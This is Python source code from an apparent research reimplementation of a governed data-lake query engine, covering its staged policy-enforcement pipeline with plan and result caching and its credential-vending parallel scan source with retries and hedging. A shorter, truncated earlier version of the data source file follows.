"""The explicit enforcement pipeline (Fig. 5 made first-class).

Every governed query runs through the same named, composable stages::

    parse -> resolve-secure -> efgac-rewrite -> optimize -> encode-plan
          -> execute -> stream

Each stage executes under a ``pipeline.stage`` span of the query's
:class:`~repro.common.context.QueryContext`, so the full enforcement path —
where policies were injected, what was routed to eFGAC, what the optimizer
pushed down, how execution spent its time — is observable from one trace
tree instead of ad-hoc stopwatches. :class:`~repro.core.lakeguard.
LakeguardCluster` is a thin assembler over this pipeline; later PRs can
shard, parallelize or cache against these seams without re-plumbing.

Note on ``efgac-rewrite``: the pushdown *rules* run inside the optimizer
fixpoint (they must interleave with generic pushdown), so this stage is the
observability seam for the decision — it records which relations the
resolver routed to external FGAC; the ``optimize`` stage records what was
ultimately folded into each remote payload.
"""

from __future__ import annotations

from contextlib import nullcontext
from dataclasses import dataclass
from typing import Any, Callable, Sequence

from repro.common.context import QueryContext
from repro.common.telemetry import Span
from repro.connect.proto import plan_targets_system_tables
from repro.connect.sessions import SessionState
from repro.core.plan_cache import (
    CachedSecurePlan,
    PlanCacheKey,
    SecurePlanCache,
    fingerprint_relation,
)
from repro.core.plan_codec import PlanDecoder
from repro.engine.executor import QueryEngine, QueryResult
from repro.engine.logical import LogicalPlan, RemoteScan
from repro.engine.types import Schema

#: Canonical stage names, in execution order.
STAGE_PARSE = "parse"
STAGE_RESOLVE = "resolve-secure"
STAGE_EFGAC = "efgac-rewrite"
STAGE_OPTIMIZE = "optimize"
STAGE_PLAN = "encode-plan"
STAGE_EXECUTE = "execute"
STAGE_STREAM = "stream"

STAGE_ORDER = (
    STAGE_PARSE,
    STAGE_RESOLVE,
    STAGE_EFGAC,
    STAGE_OPTIMIZE,
    STAGE_PLAN,
    STAGE_EXECUTE,
    STAGE_STREAM,
)


@dataclass
class PipelineState:
    """Everything a query accumulates while flowing through the stages."""

    session: SessionState
    #: Wire-format relation (when the query arrived over Connect).
    relation: dict[str, Any] | None = None
    #: Decoded/parsed logical plan (set by ``parse``, or pre-set by SQL
    #: command paths that already built a plan).
    plan: LogicalPlan | None = None
    analyzed: LogicalPlan | None = None
    optimized: LogicalPlan | None = None
    operator: Any = None
    exec_ctx: Any = None
    result: QueryResult | None = None
    #: Stream-ready outputs.
    schema_message: list[dict[str, str]] | None = None
    columns: list[list[Any]] | None = None
    #: Secure-plan cache bookkeeping: the key computed at parse time, and
    #: whether resolve/rewrite/optimize were satisfied from the cache.
    cache_key: PlanCacheKey | None = None
    cache_hit: bool = False
    #: The live cache entry (on hit *or* after insert), so the physical
    #: operator tree — compiled kernels included — can ride the same entry
    #: and die with it when the policy epoch bumps.
    cache_entry: CachedSecurePlan | None = None


@dataclass(frozen=True)
class Stage:
    """One named pipeline step: ``run(query_ctx, state, span)``."""

    name: str
    run: Callable[[QueryContext, PipelineState, Span], None]


class QueryPipeline:
    """Runs stages in order, one ``pipeline.stage`` span per stage."""

    def __init__(self, stages: Sequence[Stage]):
        self.stages = tuple(stages)

    @property
    def stage_names(self) -> list[str]:
        return [s.name for s in self.stages]

    def run(self, query_ctx: QueryContext, state: PipelineState) -> PipelineState:
        """Run every stage in order against ``state``; returns ``state``."""
        for stage in self.stages:
            query_ctx.check_deadline(where=f"stage '{stage.name}'")
            with query_ctx.span(
                f"stage:{stage.name}", "pipeline.stage", stage=stage.name
            ) as span:
                stage.run(query_ctx, state, span)
        return state


# ---------------------------------------------------------------------------
# The standard enforcement stages
# ---------------------------------------------------------------------------


def _schema_message(schema: Schema) -> list[dict[str, str]]:
    return [{"name": f.qualified_name(), "type": f.dtype.name} for f in schema]


def _remote_scans(plan: LogicalPlan) -> list[RemoteScan]:
    found: list[RemoteScan] = []

    def visit(node: LogicalPlan) -> None:
        if isinstance(node, RemoteScan):
            found.append(node)
        for child in node.children:
            visit(child)

    visit(plan)
    return found


def build_enforcement_pipeline(
    engine: QueryEngine,
    decoder: PlanDecoder,
    *,
    plan_cache: SecurePlanCache | None = None,
    policy_epoch: Callable[[], int] | None = None,
    compute_id: str = "",
    workload_manager: Any = None,
    result_cache: Any = None,
    data_epoch: Callable[[], int] | None = None,
) -> QueryPipeline:
    """The standard governed-query pipeline over one session's engine.

    With a ``plan_cache``, the parse stage computes the full cache key
    (fingerprint, user, principals, live policy epoch, compute id, session
    temp-state version); a hit skips decode/resolve/rewrite/optimize
    entirely, a miss inserts after optimize. ``policy_epoch`` must return
    the catalog's *current* governance epoch so any policy change since the
    plan was cached is a hard miss.

    With a ``workload_manager``, the execute stage brackets the operator
    run in :meth:`~repro.scheduler.workload.WorkloadManager.execution_slot`
    — the admitted slot is marked busy for the duration of the stage span
    and released (dispatching the next queued query) as soon as execution
    finishes, rather than when the client drains the stream.

    With a ``result_cache`` (:class:`repro.store.GovernedResultCache`), the
    execute stage first probes the governed result cache under the plan
    cache key + the catalog's current **data epoch**: a hit streams the
    stored bytes without taking a workload slot or running the operator; a
    miss executes normally and stores the encoded batch. Plans containing
    user code, non-deterministic expressions or eFGAC remote scans are
    excluded by construction (:func:`repro.store.plan_is_cacheable`), as is
    any query without a cache key (system tables, prebuilt-plan paths, and
    sessions with an open transaction — pinned-snapshot reads must never
    populate or hit either cache).
    """

    def _cache_key(state: PipelineState) -> PlanCacheKey:
        user_ctx = state.session.user_ctx
        return PlanCacheKey(
            fingerprint=fingerprint_relation(state.relation),
            user=user_ctx.user,
            principals=frozenset(user_ctx.principals()),
            policy_epoch=policy_epoch() if policy_epoch is not None else 0,
            compute_id=compute_id,
            temp_state_version=state.session.temp_state_version,
        )

    def parse(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        if state.plan is None:
            span.set_attribute("source", "wire")
            span.set_attribute(
                "relation_type", (state.relation or {}).get("@type", "?")
            )
            if (
                plan_cache is not None
                and state.session.active_txn is None
                and not plan_targets_system_tables(state.relation)
            ):
                state.cache_key = _cache_key(state)
                entry = plan_cache.lookup(state.cache_key, state.relation)
                if entry is not None:
                    state.analyzed = entry.analyzed
                    state.optimized = entry.optimized
                    state.cache_hit = True
                    state.cache_entry = entry
                    span.set_attribute("plan_cache", "hit")
                    return
                span.set_attribute("plan_cache", "miss")
            state.plan = decoder.relation(state.relation)
        else:
            # SQL command paths (CTAS, MV refresh) hand the pipeline a plan
            # they already parsed; the stage still marks the seam.
            span.set_attribute("source", "prebuilt")

    def resolve_secure(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        if state.cache_hit:
            span.set_attribute("plan_cache", "hit")
        else:
            state.analyzed = engine.analyze(state.plan)
        span.set_attribute("output_columns", len(state.analyzed.schema))

    def efgac_rewrite(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        remotes = _remote_scans(state.analyzed)
        span.set_attribute("remote_scans", len(remotes))
        span.set_attribute("enforcement", "external" if remotes else "local")
        if remotes:
            span.set_attribute(
                "remote_tables",
                sorted({t for r in remotes for t in r.source_tables}),
            )

    def optimize(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        if state.cache_hit:
            span.set_attribute("plan_cache", "hit")
        else:
            state.optimized = engine.optimize(state.analyzed)
        pushed: dict[str, int] = {}
        for remote in _remote_scans(state.optimized):
            for key, count in remote.pushed.items():
                pushed[key] = pushed.get(key, 0) + count
        if pushed:
            span.set_attribute("efgac_pushdowns", pushed)
        if (
            plan_cache is not None
            and not state.cache_hit
            and state.cache_key is not None
        ):
            state.cache_entry = plan_cache.insert(
                state.cache_key, state.relation, state.analyzed, state.optimized
            )

    def encode_plan(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        entry = state.cache_entry
        if entry is not None and entry.physical is not None:
            # The physical tree (with its compiled kernels already bound)
            # rides the secure-plan entry: same key, same policy-epoch
            # invalidation, zero re-planning / re-compilation on a hit.
            state.operator = entry.physical
            span.set_attribute("physical_cache", "hit")
        else:
            state.operator = engine.plan_physical(state.optimized)
            if entry is not None:
                entry.physical = state.operator
                span.set_attribute("physical_cache", "miss")
        span.set_attribute("physical_operators", _count_operators(state.operator))

    def _result_probe(state: PipelineState, span: Span) -> tuple[str | None, int]:
        """Result-cache key for this query, or None when not cacheable."""
        if result_cache is None or state.cache_key is None:
            return None, 0
        if state.optimized is None:
            return None, 0
        from repro.store import plan_is_cacheable

        if not plan_is_cacheable(state.optimized):
            result_cache.note_ineligible()
            span.set_attribute("result_cache", "ineligible")
            return None, 0
        d_epoch = data_epoch() if data_epoch is not None else 0
        return result_cache.key_for(state.cache_key, d_epoch), d_epoch

    def execute(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        session = state.session
        state.exec_ctx = engine.exec_context(
            user=session.user_ctx.user,
            groups=session.user_ctx.groups,
            auth=session.user_ctx,
            query_ctx=ctx,
        )
        result_key, d_epoch = _result_probe(state, span)
        if result_key is not None:
            cached = result_cache.lookup(result_key)
            if cached is not None:
                # Same bytes the original execution produced — no workload
                # slot, no operator run, no scan, no credential vend.
                span.set_attribute("result_cache", "hit")
                span.set_attribute("rows", cached.num_rows)
                state.result = QueryResult(
                    batch=cached,
                    analyzed_plan=state.analyzed,
                    optimized_plan=state.optimized,
                    metrics=state.exec_ctx.metrics,
                )
                return
            span.set_attribute("result_cache", "miss")
        slot = (
            workload_manager.execution_slot(ctx)
            if workload_manager is not None
            else nullcontext()
        )
        with slot as ticket:
            if ticket is not None:
                span.set_attribute("admission_tenant", ticket.tenant)
                span.set_attribute("admission_lane", ticket.lane)
                span.set_attribute(
                    "queue_wait_seconds", round(ticket.queue_wait, 6)
                )
            batch = engine.run_operator(state.operator, state.exec_ctx)
        if result_key is not None:
            result_cache.store(result_key, state.cache_key, d_epoch, batch)
        state.result = QueryResult(
            batch=batch,
            analyzed_plan=state.analyzed,
            optimized_plan=state.optimized,
            metrics=state.exec_ctx.metrics,
        )
        span.set_attribute("rows", batch.num_rows)

    def stream(ctx: QueryContext, state: PipelineState, span: Span) -> None:
        state.schema_message = _schema_message(state.result.batch.schema)
        state.columns = state.result.batch.columns
        span.set_attribute("rows", state.result.batch.num_rows)
        span.set_attribute("columns", len(state.columns))

    return QueryPipeline(
        (
            Stage(STAGE_PARSE, parse),
            Stage(STAGE_RESOLVE, resolve_secure),
            Stage(STAGE_EFGAC, efgac_rewrite),
            Stage(STAGE_OPTIMIZE, optimize),
            Stage(STAGE_PLAN, encode_plan),
            Stage(STAGE_EXECUTE, execute),
            Stage(STAGE_STREAM, stream),
        )
    )


def _count_operators(operator: Any) -> int:
    return 1 + sum(_count_operators(c) for c in getattr(operator, "children", ()))
