"""Governed data source: executor-side scans with credential vending (Fig. 2).

Every scan task exchanges the session identity for a temporary, table-scoped
credential before touching storage — data access is *user-bound*, never
cluster-bound. Files of a snapshot are distributed round-robin across
simulated executors; with ``num_executors > 1`` the tasks run concurrently on
a shared thread pool, each reading under the vended credential, so the audit
log still shows per-user, per-object access.

Two performance layers live here:

- a :class:`~repro.storage.credentials.CredentialCache` so a multi-file,
  multi-task or repeated scan vends once per (principal, table, operations)
  per policy epoch instead of once per query;
- parallel task execution. :class:`~repro.common.context.QueryContext`
  ambient propagation is ``contextvars``-based and therefore does **not**
  cross thread boundaries, so each worker receives an explicit per-task
  child context (same trace id, parented on the query's current span) —
  ``scan-task-*`` spans always join the originating query's trace.
"""

from __future__ import annotations

import random
import threading
import weakref
from concurrent.futures import FIRST_COMPLETED, Future, ThreadPoolExecutor
from concurrent.futures import TimeoutError as FuturesTimeout
from concurrent.futures import wait as futures_wait
from dataclasses import dataclass
from typing import Any, Callable, Iterator

from repro.catalog.metastore import UnityCatalog
from repro.common.context import QueryContext, QueryDeadlineExceeded, span_or_null
from repro.catalog.privileges import UserContext
from repro.catalog.scopes import ComputeCapabilities
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.expressions import EvalContext
from repro.engine.logical import TableRef
from repro.errors import (
    CredentialError,
    ExecutionError,
    RetryableError,
    StorageAccessDenied,
)
from repro.storage.credentials import (
    LIST,
    READ,
    CredentialCache,
    TemporaryCredential,
)
from repro.storage.table_format import DataFile, LakeTableStorage


@dataclass
class ScanStats:
    """Per-query scan counters: files, credentials, executor tasks."""

    files_read: int = 0
    credentials_vended: int = 0
    credential_cache_hits: int = 0
    executor_tasks: int = 0
    #: Scans that ran their tasks on the thread pool (vs. the serial path).
    parallel_scans: int = 0


@dataclass
class RecoveryStats:
    """Fault-recovery counters kept by one governed data source."""

    #: File reads replayed after a transient storage/credential failure.
    scan_retries: int = 0
    #: Credentials re-vended mid-query after auth expiry / revocation.
    credential_revends: int = 0
    #: Straggler scan tasks hedged with a duplicate submission.
    hedges_launched: int = 0
    #: Hedged duplicates that finished before the original task.
    hedge_wins: int = 0


class _SharedCredential:
    """One credential shared by a scan's tasks, re-vendable mid-query.

    When storage rejects the credential mid-scan (expiry, out-of-band
    revocation), the first task to notice re-vends under the holder's lock;
    racing tasks that held the same stale credential pick up the
    replacement instead of each paying its own vend.
    """

    def __init__(
        self,
        credential: TemporaryCredential,
        revend: Callable[[], TemporaryCredential],
    ):
        self._lock = threading.Lock()
        self._credential = credential
        self._revend = revend

    def current(self) -> TemporaryCredential:
        with self._lock:
            return self._credential

    def replace(self, stale: TemporaryCredential) -> TemporaryCredential:
        """Swap out ``stale``; no-op if another task already replaced it."""
        with self._lock:
            if self._credential is stale:
                self._credential = self._revend()
            return self._credential


def _drain_pool_cell(cell: list) -> None:
    """Shut down the lazily-created scan thread pool (finalizer-safe)."""
    pool = cell[0]
    cell[0] = None
    if pool is not None:
        pool.shutdown(wait=False, cancel_futures=True)


class GovernedDataSource:
    """DataSource implementation backed by Unity Catalog storage."""

    def __init__(
        self,
        catalog: UnityCatalog,
        caps: ComputeCapabilities,
        num_executors: int = 2,
        enable_credential_cache: bool = True,
        credential_refresh_ahead: float = 0.2,
        scan_retries: int = 2,
        scan_retry_base_delay: float = 0.02,
        hedge_after_seconds: float | None = None,
        artifact_store: "Any | None" = None,
    ):
        self._catalog = catalog
        self._caps = caps
        self._num_executors = max(1, num_executors)
        #: Bounded per-file retries for retryable storage/credential faults
        #: (0 disables recovery — the ablation baseline).
        self._scan_retries = max(0, scan_retries)
        self._scan_retry_base = scan_retry_base_delay
        #: Hedge a straggler task with a duplicate submission after this
        #: many *wall-clock* seconds (None disables hedging). Wall-clock by
        #: construction: the wait happens on a real Future of a real pool.
        self._hedge_after = hedge_after_seconds
        self.stats = ScanStats()
        self.recovery_stats = RecoveryStats()
        self.credential_cache: CredentialCache | None = None
        if enable_credential_cache:
            self.credential_cache = CredentialCache(
                clock=catalog.clock,
                refresh_ahead_fraction=credential_refresh_ahead,
                telemetry=catalog.telemetry,
                faults=catalog.faults,
                # Credentials ride the artifact store's memory-pinned tier
                # only — never the disk spill or shared KV.
                persistent=artifact_store,
            )
            catalog.register_cache_stats_provider(
                f"credential_cache[{caps.compute_id}]",
                self.credential_cache.stats_snapshot,
            )
        # The scan thread pool is created lazily and torn down by close()
        # (cluster shutdown) or, failing that, by the finalizer — worker
        # threads must not outlive the data source that spawned them. The
        # cell indirection keeps the finalizer from holding ``self`` alive.
        self._pool_cell: list[ThreadPoolExecutor | None] = [None]
        self._pool_lock = threading.Lock()
        self._pool_finalizer = weakref.finalize(
            self, _drain_pool_cell, self._pool_cell
        )

    def recovery_stats_snapshot(self) -> dict[str, float]:
        """Flat recovery counters for ``system.access.fault_stats``."""
        return {
            "scan_retries": float(self.recovery_stats.scan_retries),
            "credential_revends": float(self.recovery_stats.credential_revends),
            "hedges_launched": float(self.recovery_stats.hedges_launched),
            "hedge_wins": float(self.recovery_stats.hedge_wins),
        }

    def _task_pool(self) -> ThreadPoolExecutor:
        with self._pool_lock:
            if self._pool_cell[0] is None:
                self._pool_cell[0] = ThreadPoolExecutor(
                    max_workers=self._num_executors,
                    thread_name_prefix="scan-exec",
                )
            return self._pool_cell[0]

    def close(self) -> None:
        """Release the scan thread pool (idempotent; wired to cluster shutdown).

        Drains the cell rather than invoking the (one-shot) finalizer, so a
        pool re-created by a later scan keeps its garbage-collection guard.
        """
        with self._pool_lock:
            _drain_pool_cell(self._pool_cell)

    def _delegate_context(self, delegate: str) -> UserContext:
        if self._catalog.principals.is_user(delegate):
            return self._catalog.principals.context_for(delegate)
        return UserContext(user=delegate)

    def _credential_for(self, table: TableRef, ctx: UserContext):
        """Vend (or reuse) the user-bound credential for one scan."""
        if table.auth_delegate is not None:
            # Definer-rights scan (view body): the credential is vended under
            # the definer's authority; the session user stays in the audit.
            vend_ctx = self._delegate_context(table.auth_delegate)
            on_behalf_of = ctx.user
        else:
            vend_ctx = ctx
            on_behalf_of = None

        def vend():
            return self._catalog.vend_credential(
                vend_ctx, table.full_name, {READ, LIST}, self._caps,
                on_behalf_of=on_behalf_of,
            )

        if self.credential_cache is None:
            self.stats.credentials_vended += 1
            return vend()
        credential, reused = self.credential_cache.get_or_vend(
            principal=vend_ctx.user,
            securable=table.full_name,
            operations=frozenset({READ, LIST}),
            on_behalf_of=on_behalf_of,
            policy_epoch=self._catalog.policy_epoch,
            vend=vend,
            validate=self._catalog.vendor.validate,
        )
        if reused:
            self.stats.credential_cache_hits += 1
        else:
            self.stats.credentials_vended += 1
        return credential

    def _scan_setup(
        self, table: TableRef, eval_ctx: EvalContext
    ) -> tuple[
        TemporaryCredential,
        _SharedCredential,
        LakeTableStorage,
        list[tuple[int, list[DataFile]]],
    ]:
        """Shared scan prologue: authenticate, vend, snapshot, assign tasks.

        Both execution backends start here; they differ only in *where* the
        bytes are deserialized and filtered afterwards.
        """
        ctx = eval_ctx.auth
        if not isinstance(ctx, UserContext):
            raise ExecutionError(
                f"scan of '{table.full_name}' has no authenticated user context"
            )
        if table.storage_root is None:
            raise ExecutionError(
                f"'{table.full_name}' has no storage visible to this compute"
            )
        credential = self._credential_for(table, ctx)
        vend_principal = (
            self._delegate_context(table.auth_delegate).user
            if table.auth_delegate is not None
            else ctx.user
        )

        def revend() -> TemporaryCredential:
            # Auth expired (or was revoked out of band) mid-query: drop the
            # cached entry so _credential_for re-runs the privilege check
            # and vends fresh, then count the recovery.
            if self.credential_cache is not None:
                self.credential_cache.invalidate_principal(vend_principal)
            fresh = self._credential_for(table, ctx)
            self.recovery_stats.credential_revends += 1
            self._catalog.faults.record_recovery("credential.revend")
            return fresh

        holder = _SharedCredential(credential, revend)
        storage = LakeTableStorage(self._catalog.store, table.storage_root)
        snapshot = storage.snapshot(credential, version=table.snapshot_version)

        # Distribute files over simulated executor tasks round-robin; each
        # task reads with the same user-bound credential.
        assignments: list[list[DataFile]] = [[] for _ in range(self._num_executors)]
        for i, data_file in enumerate(snapshot.files):
            assignments[i % self._num_executors].append(data_file)
        tasks = [(i, files) for i, files in enumerate(assignments) if files]
        return credential, holder, storage, tasks

    def scan(self, table: TableRef, eval_ctx: EvalContext) -> Iterator[ColumnBatch]:
        credential, holder, storage, tasks = self._scan_setup(table, eval_ctx)
        batch_size = getattr(eval_ctx, "batch_size", 0)
        qctx: QueryContext | None = getattr(eval_ctx, "query_ctx", None)

        def read_with_recovery(
            data_file: DataFile,
            task_ctx: QueryContext | None,
            rng: random.Random,
        ) -> dict[str, list]:
            """One file read with bounded, deadline-aware retries.

            Transient storage faults are simply retried; a credential
            rejection additionally re-vends through the shared holder
            (at most once per stale credential across all tasks).
            """
            attempt = 0
            while True:
                cred = holder.current()
                try:
                    columns = storage.read_file(data_file, cred)
                    if attempt:
                        self._catalog.faults.record_recovery("scan.task_retry")
                    return columns
                except (StorageAccessDenied, CredentialError) as exc:
                    if attempt >= self._scan_retries:
                        raise
                    holder.replace(cred)
                    self._retry_backoff(attempt, task_ctx, rng, exc, data_file)
                    attempt += 1
                except RetryableError as exc:
                    if attempt >= self._scan_retries:
                        raise
                    self._retry_backoff(attempt, task_ctx, rng, exc, data_file)
                    attempt += 1

        def run_task(
            task_index: int,
            task_files: list[DataFile],
            task_ctx: QueryContext | None,
        ) -> list[ColumnBatch]:
            # Materialize the task's files inside its span so the span
            # measures the read, not downstream operator time.
            rng = random.Random(f"scan-retry:{task_index}")
            with span_or_null(
                task_ctx,
                f"scan-task-{task_index}",
                "executor.task",
                table=table.full_name,
                task=task_index,
                files=len(task_files),
                credential_identity=credential.identity,
            ):
                batches = []
                for data_file in task_files:
                    columns = read_with_recovery(data_file, task_ctx, rng)
                    batches.append(ColumnBatch.from_dict(table.schema, columns))
                return batches

        produced = False
        if self._num_executors > 1 and len(tasks) > 1:
            # Parallel path: the ambient contextvar does not cross threads,
            # so each task gets an explicit child context created *here*
            # (while the query's span is current) to parent its span onto.
            self.stats.parallel_scans += 1
            pool = self._task_pool()
            futures = [
                (
                    task_index,
                    task_files,
                    pool.submit(
                        run_task,
                        task_index,
                        task_files,
                        qctx.child() if qctx is not None else None,
                    ),
                )
                for task_index, task_files in tasks
            ]
            # Consume in submission order: deterministic output regardless
            # of which worker finishes first.
            for task_index, task_files, future in futures:
                batches = self._await_task(
                    pool, future, run_task, task_index, task_files, qctx
                )
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch in batches:
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        else:
            for task_index, task_files in tasks:
                batches = run_task(task_index, task_files, qctx)
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch in batches:
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        if not produced:
            yield ColumnBatch.empty(table.schema)

    def scan_pipeline(
        self,
        table: TableRef,
        eval_ctx: EvalContext,
        spec: dict,
        pool,
        on_rows: Callable[[int], None],
    ) -> Iterator[ColumnBatch]:
        """Process-backend scan: per-file blobs travel raw into worker
        processes over shared memory; deserialization, pushed filters,
        column pruning and an optional fused filter→project kernel run
        in-worker (``spec`` carries them, see ``PhysScan.pooled_scan``).

        The driver keeps everything governance- and recovery-critical from
        :meth:`scan`: credential vending (including mid-query revends through
        the shared holder), the actual storage reads (so the ``storage.get``
        chaos point, latency simulation and byte accounting are unchanged),
        bounded deadline-aware retries, straggler hedging, and the
        ``scan-task-*`` executor spans. A *retryable* failure reported by a
        worker — corrupt blob, injected ``worker.task`` fault — is recovered
        here by re-reading the object and resubmitting, matching the thread
        path's re-read contract; ``on_rows`` receives each file's pre-filter
        row count so driver metrics agree across backends.
        """
        credential, holder, storage, tasks = self._scan_setup(table, eval_ctx)
        batch_size = getattr(eval_ctx, "batch_size", 0)
        qctx: QueryContext | None = getattr(eval_ctx, "query_ctx", None)
        out_schema = spec["out_schema"]

        filters_blob = None
        if spec["pushed_filters"]:
            import cloudpickle

            filters_blob = cloudpickle.dumps(tuple(spec["pushed_filters"]))
        kspec = None
        if spec["kernel"] is not None:
            kspec = pool.kernel_spec(
                spec["kernel"],
                spec["exprs"],
                spec.get("kernel_mode", "filter-project"),
            )

        def run_file(
            data_file: DataFile,
            task_ctx: QueryContext | None,
            rng: random.Random,
        ) -> tuple[ColumnBatch, int]:
            """Read one blob and run it through a worker, with recovery.

            One retry loop covers both failure domains — a storage/credential
            fault during the read and a retryable worker error afterwards —
            because the remedy is the same: (maybe re-vend,) re-read,
            resubmit.
            """
            attempt = 0
            while True:
                cred = holder.current()
                try:
                    blob = storage.read_raw(data_file, cred)
                    task = {
                        "op": "scan",
                        "table": table.full_name,
                        "schema": table.schema,
                        "blob_len": len(blob),
                        "filters_blob": filters_blob,
                        "required_indices": spec["required_columns"],
                        "kernel": kspec,
                        "user": eval_ctx.user,
                        "groups": tuple(eval_ctx.groups),
                        "trace_id": (
                            task_ctx.trace_id if task_ctx is not None else ""
                        ),
                        "session_id": (
                            task_ctx.session_id if task_ctx is not None else ""
                        ),
                        "cluster_id": (
                            task_ctx.cluster_id if task_ctx is not None else ""
                        ),
                    }
                    # retries=0 (the default): recovery decisions — re-vend?
                    # re-read? deadline? — belong to this layer, not the pool.
                    columns, num_rows, info = pool.submit(
                        task, blob, len(blob)
                    ).result()
                except (StorageAccessDenied, CredentialError) as exc:
                    if attempt >= self._scan_retries:
                        raise
                    holder.replace(cred)
                    self._retry_backoff(attempt, task_ctx, rng, exc, data_file)
                    attempt += 1
                except RetryableError as exc:
                    if attempt >= self._scan_retries:
                        raise
                    self._retry_backoff(attempt, task_ctx, rng, exc, data_file)
                    attempt += 1
                else:
                    if attempt:
                        self._catalog.faults.record_recovery("scan.task_retry")
                    return (
                        ColumnBatch(out_schema, columns),
                        info.get("rows_in", 0),
                    )

        def run_task(
            task_index: int,
            task_files: list[DataFile],
            task_ctx: QueryContext | None,
        ) -> list[tuple[ColumnBatch, int]]:
            rng = random.Random(f"scan-retry:{task_index}")
            with span_or_null(
                task_ctx,
                f"scan-task-{task_index}",
                "executor.task",
                table=table.full_name,
                task=task_index,
                files=len(task_files),
                credential_identity=credential.identity,
                backend="process",
            ):
                return [run_file(f, task_ctx, rng) for f in task_files]

        produced = False
        if self._num_executors > 1 and len(tasks) > 1:
            self.stats.parallel_scans += 1
            tpool = self._task_pool()
            futures = [
                (
                    task_index,
                    task_files,
                    tpool.submit(
                        run_task,
                        task_index,
                        task_files,
                        qctx.child() if qctx is not None else None,
                    ),
                )
                for task_index, task_files in tasks
            ]
            for task_index, task_files, future in futures:
                results = self._await_task(
                    tpool, future, run_task, task_index, task_files, qctx
                )
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch, rows_in in results:
                    # Driver-side callback (not from pool threads): metric
                    # increments stay single-threaded, as on the thread path.
                    on_rows(rows_in)
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        else:
            for task_index, task_files in tasks:
                results = run_task(task_index, task_files, qctx)
                self.stats.executor_tasks += 1
                self.stats.files_read += len(task_files)
                for batch, rows_in in results:
                    on_rows(rows_in)
                    for chunk in chunk_batch(batch, batch_size):
                        produced = True
                        yield chunk
        if not produced:
            yield ColumnBatch.empty(out_schema)

    # -- recovery helpers ------------------------------------------------------

    def _retry_backoff(
        self,
        attempt: int,
        task_ctx: QueryContext | None,
        rng: random.Random,
        exc: Exception,
        data_file: DataFile,
    ) -> None:
        """Sleep before a scan-task retry; never sleeps past the deadline.

        The backoff grows exponentially with full jitter (task-seeded, so a
        run replays). When the task context carries a deadline the sleep is
        checked against it first — crossing it raises
        :class:`~repro.common.context.QueryDeadlineExceeded` chained to the
        transient failure instead of burning the remaining budget.
        """
        delay = self._scan_retry_base * (2**attempt)
        delay *= 1.0 - rng.uniform(0.0, 0.5)
        if task_ctx is not None:
            remaining = task_ctx.remaining()
            if remaining is not None and delay >= remaining:
                raise QueryDeadlineExceeded(
                    f"query {task_ctx.trace_id}: retrying scan of "
                    f"'{data_file.path}' would cross the deadline "
                    f"({max(0.0, remaining):.3f}s left)"
                ) from exc
        self.recovery_stats.scan_retries += 1
        with span_or_null(
            task_ctx,
            f"scan-retry-{attempt}",
            "recovery.retry",
            file=data_file.path,
            attempt=attempt,
            error=type(exc).__name__,
            backoff_seconds=delay,
        ):
            self._catalog.clock.sleep(delay)

    def _await_task(
        self,
        pool: ThreadPoolExecutor,
        future: "Future[list[ColumnBatch]]",
        run_task: Callable[..., list[ColumnBatch]],
        task_index: int,
        task_files: list[DataFile],
        qctx: QueryContext | None,
    ) -> list[ColumnBatch]:
        """Wait for one task, hedging stragglers when the knob is set.

        After ``hedge_after_seconds`` of wall-clock waiting, a duplicate of
        the task is submitted to the same pool and whichever attempt
        finishes first (successfully) wins; reads are idempotent, so the
        loser's work is simply discarded.
        """
        if self._hedge_after is None:
            return future.result()
        try:
            return future.result(timeout=self._hedge_after)
        except FuturesTimeout:
            pass
        self.recovery_stats.hedges_launched += 1
        if qctx is not None:
            qctx.event("scan-hedge-launched", task=task_index)
            qctx.telemetry.counter("recovery.scan_hedges").inc()
        hedge: "Future[list[ColumnBatch]]" = pool.submit(
            run_task,
            task_index,
            task_files,
            qctx.child() if qctx is not None else None,
        )
        pending = {future, hedge}
        failure: Exception | None = None
        while pending:
            done, pending = futures_wait(pending, return_when=FIRST_COMPLETED)
            for finished in done:
                try:
                    result = finished.result()
                except Exception as exc:  # noqa: BLE001 - keep last failure
                    failure = exc
                    continue
                if finished is hedge:
                    self.recovery_stats.hedge_wins += 1
                    self._catalog.faults.record_recovery("scan.hedge_win")
                return result
        assert failure is not None
        raise failure
