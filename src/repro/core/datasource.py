"""Governed data source: executor-side scans with credential vending (Fig. 2).

Every scan task exchanges the session identity for a temporary, table-scoped
credential before touching storage — data access is *user-bound*, never
cluster-bound. Files of a snapshot are distributed round-robin across
simulated executors; with ``num_executors > 1`` the tasks run concurrently on
a shared thread pool, each reading under the vended credential, so the audit
log still shows per-user, per-object access.

Two performance layers live here:

- a :class:`~repro.storage.credentials.CredentialCache` so a multi-file,
  multi-task or repeated scan vends once per (principal, table, operations)
  per policy epoch instead of once per query;
- parallel task execution. :class:`~repro.common.context.QueryContext`
  ambient propagation is ``contextvars``-based and therefore does **not**
  cross thread boundaries, so each worker receives an explicit per-task
  child context (same trace id, parented on the query's current span) —
  ``scan-task-*`` spans always join the originating query's trace.
"""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Iterator

from repro.catalog.metastore import UnityCatalog
from repro.common.context import QueryContext, span_or_null
from repro.catalog.privileges import UserContext
from repro.catalog.scopes import ComputeCapabilities
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.expressions import EvalContext
from repro.engine.logical import TableRef
from repro.errors import ExecutionError
from repro.storage.credentials import LIST, READ, CredentialCache
from repro.storage.table_format import DataFile, LakeTableStorage


@dataclass
class ScanStats:
    """Per-query scan counters: files, credentials, executor tasks."""

    files_read: int = 0
    credentials_vended: int = 0
    credential_cache_hits: int = 0
    executor_tasks: int = 0
    #: Scans that ran their tasks on the thread pool (vs. the serial path).
    parallel_scans: int = 0


class GovernedDataSource:
